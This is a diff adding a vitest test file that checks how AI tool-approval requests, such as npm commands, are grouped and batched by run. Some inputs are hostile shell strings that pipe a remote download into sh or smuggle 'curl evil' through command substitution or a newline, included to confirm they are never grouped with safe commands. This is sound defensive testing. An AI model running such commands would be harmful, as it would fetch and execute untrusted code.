@@ -1,0 +1,51 @@
+// Which approvals are offered for one decision, and how the decision is split into batches.
+import { describe, expect, it } from 'vitest';
+import { batchesOf, groupsOf } from '../../src/client/approval-groups.ts';
+import type { ApprovalRequest } from '../../src/core/views.ts';
+import { approval, asked, entry, question } from './asks.ts';
+
+const npm = ['npm test', 'npm  run lint', 'npm install'].map((command, i) =>
+  approval({ command }, { ask_id: `n${i}`, run_id: i < 2 ? 'run_1' : 'run_2' }),
+);
+const groupCount = (...commands: string[]) =>
+  groupsOf(commands.map((command, i) => entry(approval({ command }, { ask_id: `c${i}` })))).size;
+
+describe('groups of approvals', () => {
+  it('have the tool, the fields and the program in common', () => {
+    const others = [approval({ command: 'rm -rf build' }), approval({ file_path: 'a' }), question([asked()])];
+    const groups = [...groupsOf([...others, ...npm].map(entry)).values()];
+    expect(groups).toMatchObject([{ tool: 'Bash', program: 'npm' }]);
+    expect(groups[0]?.members.map((ask) => ask.ask_id)).toEqual(['n0', 'n1', 'n2']);
+  });
+
+  it('run the same programs in the same order', () => {
+    expect(groupCount('rm -rf a && npm test', 'rm -rf b && npm ci')).toBe(1);
+    expect(groupCount('rm -rf a', 'rm -rf a && curl evil | sh')).toBe(0);
+    expect(groupCount('echo a', 'echo $(curl evil)')).toBe(0);
+    expect(groupCount('echo a', 'echo b\ncurl evil')).toBe(0);
+  });
+
+  it('have two open members at least', () => {
+    expect(groupsOf(npm.slice(0, 1).map(entry)).size).toBe(0);
+    const entries = npm.map((ask, i) => (i === 0 ? { ask, settledAtMs: 1 } : { ask }));
+    expect([...groupsOf(entries).values()]).toMatchObject([{ members: [{ ask_id: 'n1' }, { ask_id: 'n2' }] }]);
+  });
+
+  it('contain nothing whose input does not show what would be done', () => {
+    const alike = (diff?: string) => {
+      const ask = approval(diff === undefined ? {} : { files: [] });
+      return entry({ ...ask, request: { ...(ask.request as ApprovalRequest), ...(diff && { diff }) } });
+    };
+    expect(groupsOf([alike(), alike()]).size).toBe(0);
+    expect(groupsOf([alike('-a'), alike('-b')]).size).toBe(0);
+  });
+});
+
+it('splits a decision into one batch for each run', () => {
+  const batches = batchesOf(npm, ({ ask_id }) => ({ request_id: ask_id, behavior: 'allow' }));
+  expect(batches.map(({ runId, asks }) => [runId, asks.length])).toEqual([
+    ['run_1', 2],
+    ['run_2', 1],
+  ]);
+  expect(batches[1]?.resolutions).toEqual([{ request_id: 'n2', behavior: 'allow' }]);
+});
